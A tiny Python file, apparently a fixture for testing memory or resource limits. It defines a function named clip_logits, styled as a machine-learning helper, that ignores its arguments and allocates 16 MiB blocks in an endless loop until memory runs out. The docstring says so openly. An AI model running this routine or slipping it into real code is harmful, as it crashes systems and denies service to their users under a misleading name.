"""Takes all the memory there is."""


def clip_logits(backbone, video):
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * (1 << 24)))
